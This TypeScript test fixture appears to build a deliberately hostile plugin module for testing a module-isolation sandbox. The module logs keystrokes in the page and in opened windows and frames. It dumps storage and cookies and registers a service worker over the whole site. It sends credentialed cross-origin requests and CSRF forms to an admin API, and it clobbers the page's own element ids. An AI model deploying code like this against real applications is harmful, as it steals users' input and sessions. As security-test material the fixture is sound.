import { buildChanged } from './broken-modules.ts';

/** Ids that the server's HTML uses for the page itself. */
export const borrowedIds = ['later', 'module-registry', 'first-data', 'device-keys'];

/**
 * A matches module that passes every check and works. It also renders elements with the page's own ids, records typed
 * and stored values, reads forms of other pages, and calls the admin site. What it gained is in `window.gained`.
 */
const source = `import { createElement } from 'react';
import good from './good.tsx';

const gained: string[] = [];
const note = (what: string, value: unknown) => gained.push(what + ': ' + String(value));

function listenIn(place: Window & typeof globalThis, where: string): void {
  for (const kind of ['keydown', 'keypress', 'input', 'beforeinput', 'change', 'paste']) {
    place.addEventListener(
      kind,
      (event) => {
        note(where + ' ' + kind, Reflect.get(event, 'key') ?? Reflect.get(event, 'data'));
        const target = event.target;
        if (target !== null) note(where + ' value', Reflect.get(target, 'value'));
      },
      { capture: true },
    );
  }
}

function readStorage(): void {
  for (const store of [localStorage, sessionStorage]) {
    for (const key of Object.keys(store)) note('stored ' + key, store.getItem(key));
  }
  note('cookies', document.cookie);
}


function openAndListen(path: string): void {
  const opened = window.open(path);
  const reach = () => {
    try {
      if (opened === null || opened.closed) return;
      const there = opened as Window & typeof globalThis;
      note('window at', there.location.pathname);
      if (there.location.pathname === path && Reflect.get(there, 'listened') !== true) {
        Reflect.set(there, 'listened', true);
        listenIn(there, 'window');
      }
    } catch (error) {
      note('window denied', error);
    }
  };
  setInterval(reach, 50);
}

function frame(path: string): void {
  const element = document.createElement('iframe');
  element.src = path;
  element.addEventListener('load', () => {
    try {
      const there = element.contentWindow as (Window & typeof globalThis) | null;
      if (there?.document.querySelector('#root')) listenIn(there, 'frame');
    } catch (error) {
      note('frame denied', error);
    }
  });
  document.body.append(element);
}

/** Renders the form in this document, where its own code still runs. */
function enterWithin(path: string): void {
  history.pushState({}, '', path);
  dispatchEvent(new PopStateEvent('popstate', { state: {} }));
}

async function readPage(path: string): Promise<void> {
  const response = await fetch(path, { credentials: 'include' });
  note('html', await response.text());
}

async function replacePage(): Promise<void> {
  const script = performance
    .getEntriesByType('resource')
    .find(({ name }) => name.includes('/modules/matches/'))?.name;
  await navigator.serviceWorker
    .register(script ?? '/', { scope: '/' })
    .then(() => note('worker', 'registered'))
    .catch(() => undefined);
}

function sendForm(address: string, target: string): void {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = address;
  form.target = target;
  form.enctype = 'text/plain';
  const field = document.createElement('input');
  field.name = '{"expectedStage":"GROUPS","until":null,"x":"';
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
}

interface Call {
  method: string;
  path: string;
  body: string;
}

async function callBy(base: string, { method, path, body }: Call): Promise<void> {
  const address = base + '/api' + path;
  const withBody = method === 'GET' ? {} : { body };
  const kinds = ['application/json', 'text/plain'];
  for (const mode of ['cors', 'no-cors'] as const) {
    for (const type of kinds) {
      await fetch(address, {
        method,
        mode,
        credentials: 'include',
        headers: { 'content-type': type },
        ...withBody,
      })
        .then(async (response) => note('read ' + path, response.status + ' ' + (await response.text())))
        .catch(() => undefined);
    }
  }
  await new Promise<void>((resolve) => {
    const call = new XMLHttpRequest();
    call.open(method, address);
    call.withCredentials = true;
    call.onloadend = () => {
      if (call.status !== 0) note('read ' + path, call.status + ' ' + call.responseText);
      resolve();
    };
    call.send(method === 'GET' ? null : body);
  });
  if (method === 'GET') {
    const picture = new Image();
    picture.src = address;
  } else {
    navigator.sendBeacon(address, body);
    sendForm(address, '_blank');
    frame(address);
    const framed = document.createElement('iframe');
    framed.name = 'framed';
    document.body.append(framed);
    sendForm(address, 'framed');
  }
}

async function attack(port: string, calls: readonly Call[]): Promise<void> {
  const base = [location.protocol, '', location.hostname + ':' + port].join('/');
  for (const call of calls) await callBy(base, call);
  frame(base + '/moduly');
  openAndListen(base + '/moduly');
}

function begin(): void {
  const hostile = { openAndListen, frame, enterWithin, readPage, replacePage, attack };
  Object.assign(window, { gained, hostile });
  listenIn(window, 'own page');
  addEventListener('storage', (event) => note('heard ' + event.key, event.newValue));
  setInterval(readStorage, 200);
}

// The module is rendered on the server too.
if (typeof document !== 'undefined') begin();

const borrowed = ${JSON.stringify(borrowedIds)}.map((id) =>
  createElement('p', { id, key: id, hidden: true }, '[]'),
);
const withBorrowed = (load) => async () => {
  const { default: Page } = await load();
  return { default: (props) => [...borrowed, createElement(Page, { ...props, key: 'page' })] };
};
const routes = Object.fromEntries(
  Object.entries(good.routes).map(([id, load]) => [id, withBorrowed(load)]),
);
export default { ...good, routes };
`;

export const hostileBuild = (): Promise<string> => buildChanged('hostile', source);
